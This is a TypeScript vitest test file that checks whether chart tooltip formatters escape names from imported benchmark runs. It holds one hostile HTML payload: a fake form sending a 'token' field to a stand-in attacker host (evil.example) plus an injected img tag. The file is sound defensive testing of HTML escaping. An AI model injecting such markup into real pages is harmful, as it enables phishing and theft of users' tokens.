import { describe, expect, it } from 'vitest';
import type { ComparedRun } from '../../src/shared/contract/compare';
import { tradeOffOption } from '../../src/renderer/src/views/compare-trade-off';
import { historyChartOption } from '../../src/renderer/src/views/history-chart';
import { historyBuild, tpotHistory } from '../support/metric-history';

// Attack: ECharts writes a tooltip formatter's string into innerHTML, and an imported run names its own model,
// workload and build. The page's CSP stops scripts, not markup: a fake form or a look-alike dialog.
const HOSTILE = '<form action="https://evil.example"><input name=token></form><img src=x id=injected>';

function expectInert(html: string) {
  expect(html).not.toMatch(/<|>/);
  expect(html).toContain('&lt;form action=&quot;https://evil.example&quot;&gt;');
}

describe('chart tooltips show names from runs as text', () => {
  it('the Compare trade-off point', () => {
    const run = { label: `${HOSTILE} · demo`, ttftP95Ms: 12.5, outputTokensPerS: 40 } as ComparedRun;
    const option = tradeOffOption([run]);
    const [point] = option.series[0]!.data;
    expectInert(option.tooltip.formatter({ data: point as [number, number, string] }));
  });

  it('the history chart: a run dot and a build mean', () => {
    const build = historyBuild(HOSTILE, [10], null, { backend: HOSTILE, intervalNote: null });
    const history = tpotHistory([build], { model: HOSTILE, workload: HOSTILE });
    type Formatter = (item: unknown) => string;
    const option = historyChartOption(history, history.configurations[0]!) as { series: { tooltip?: { formatter: Formatter } }[] };
    const [runs, means] = option.series;
    const dot = runs!.tooltip!.formatter({ name: HOSTILE, value: [0, 10] });
    expect(dot).not.toMatch(/<|>/);
    expectInert(means!.tooltip!.formatter({ dataIndex: 0 }));
  });
});
